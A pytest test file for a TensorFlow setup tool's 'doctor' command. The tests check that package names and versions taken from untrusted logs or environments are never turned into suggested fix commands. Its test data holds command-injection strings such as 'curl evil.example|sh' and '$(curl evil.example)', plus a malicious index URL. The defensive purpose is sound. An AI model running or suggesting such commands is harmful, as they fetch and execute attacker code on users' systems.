"""A log, a package list or an environment that a stranger wrote: what `tfsetup doctor` then tells people to type."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from support.cli import Tfsetup
from support.doctor import command_of
from support.process import data
from support.process import tfsetup as real

EVIL = [
    "git+https://evil.example/x.git",
    "https://evil.example/tensorflow-2.19.0-py3-none-any.whl",
    "--index-url=https://evil.example/simple",
    "evil-package",
    "tensorflow'; curl evil.example|sh #",
    "$(curl evil.example)",
]
LOGS = {
    "hash": ("ERROR: Hash mismatch for '{}'\n", "download-hash-mismatch"),
    "uninstall": ("ERROR: Cannot uninstall '{}'. It is a distutils installed project\n", "pip-distutils-uninstall"),
    "pin": (
        "ERROR: Could not find a version that satisfies the requirement {}==2.0 (from keras) (from versions: 1.0, 3.0)",
        "nonexistent-version-pin",
    ),
}


@pytest.mark.parametrize("name", EVIL, ids=range(len(EVIL)))
@pytest.mark.parametrize(("log", "cause"), LOGS.values(), ids=LOGS)
def test_what_a_log_names_is_quoted_as_evidence_and_never_typed(
    log: str, cause: str, name: str, tfsetup: Tfsetup, tmp_path: Path
) -> None:
    (tmp_path / "log").write_text(log.format(name))
    ran = tfsetup("doctor", "--log", "log", "--json")
    findings = json.loads(ran.out)["data"]["findings"]
    assert ran.status == 7 or not findings
    assert not [fix for finding in findings for fix in finding["fix"] if "evil" in fix or name in fix]
    for finding in findings:
        assert finding["fix"]
        claimed = finding["cause"] == cause and finding["confidence"] >= 0.5  # below it merely resembles other reports
        assert not claimed or any("evil" in line for line in finding["evidence"])
    ran = tfsetup("doctor", "--log", "log")
    assert not [line for line in ran.out.splitlines() if line.lstrip().startswith(("fix:", "or:")) and "evil" in line]


def test_a_name_of_the_family_is_still_a_command(tfsetup: Tfsetup, tmp_path: Path) -> None:
    (tmp_path / "log").write_text(LOGS["uninstall"][0].format("wrapt"))
    ran = tfsetup("doctor", "--log", "log")
    assert ran.status == 7
    assert "python -m pip install --ignore-installed 'wrapt' && python -m pip install tensorflow" in ran.out


@pytest.mark.process
def test_the_first_reproduction_as_a_user_types_it(tmp_path: Path) -> None:
    (tmp_path / "log").write_text("Hash mismatch for 'git+https://evil.example/x.git'\n")
    done = real("doctor", "--log", "log", cwd=tmp_path)
    assert done.returncode == 7
    assert "[download-hash-mismatch, sure, 97%]" in done.stdout
    first = next(line for line in done.stdout.splitlines() if "fix: " in line)
    assert command_of(first.partition("fix: ")[2]) == "python -m pip cache purge"
    assert done.stdout.count("evil.example") == 1  # the line that is quoted


def test_versions_of_a_package_list_are_text_too(tfsetup: Tfsetup, tmp_path: Path) -> None:
    version = "2.19.0' --index-url='https://evil.example/simple"
    listed = [{"name": name, "version": version} for name in ("tensorflow-cpu", "tensorflow-text", "--index-url=x")]
    (tmp_path / "packages.json").write_text(json.dumps(listed))
    (tmp_path / "log").write_text("tensorflow_text/core/pybinds/x.so: undefined symbol: _ZN4absl\n")
    ran = tfsetup("doctor", "--log", "log", "--packages", "packages.json", "--json")
    findings = json.loads(ran.out)["data"]["findings"]
    assert findings[0]["cause"] == "tf-text-abi-mismatch"
    assert not [fix for finding in findings for fix in finding["fix"] if "evil" in fix or "index-url" in fix]


@pytest.fixture
def environment(tmp_path: Path) -> Path:
    folder = tmp_path / "env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(folder)], check=True)
    return folder


def distribution(environment: Path, name: str, version: str, *requires: str) -> None:
    """Put the metadata of a package that brings the module tensorflow into an environment."""
    site = next(environment.glob("[Ll]ib/**/site-packages"))
    (site / "tensorflow").mkdir(exist_ok=True)
    (site / "tensorflow" / "__init__.py").touch()
    info = site / f"n{len(list(site.iterdir()))}-1.dist-info"
    info.mkdir()
    lines = [f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"]
    (info / "METADATA").write_text("".join([*lines, *(f"Requires-Dist: {one}\n" for one in requires)]))
    (info / "RECORD").write_text("tensorflow/__init__.py,,\n")


def looked_at(environment: Path) -> list[dict[str, Any]]:
    done = real("doctor", str(environment), "--no-import", "--json", cwd=environment.parent)
    findings = data(done)["findings"]
    assert isinstance(findings, list)
    return findings


@pytest.mark.process
def test_metadata_of_an_environment_is_text_too(environment: Path) -> None:
    distribution(environment, "tensorflow", "2.19.0", "evil-package>=1", "numpy===https://evil.example/x.whl")
    distribution(environment, "--index-url=https://evil.example/simple", "9.9")
    findings = looked_at(environment)
    assert {"two-tensorflow-distributions", "package-outside-requirements"} <= {
        finding["cause"] for finding in findings
    }
    assert not [fix for finding in findings for fix in finding["fix"] if "evil" in fix or "index-url" in fix]


@pytest.mark.process
def test_two_copies_of_the_family_are_still_commands(environment: Path) -> None:
    distribution(environment, "tensorflow", "2.19.0")
    distribution(environment, "tensorflow-cpu", "2.18.0")
    [finding] = [one for one in looked_at(environment) if one["cause"] == "two-tensorflow-distributions"]
    words = ("python -m pip uninstall -y ", " && python -m pip install 'tensorflow==2.19.0'")
    assert finding["fix"][0] in {
        names.join(words) for names in ("tensorflow tensorflow-cpu", "tensorflow-cpu tensorflow")
    }
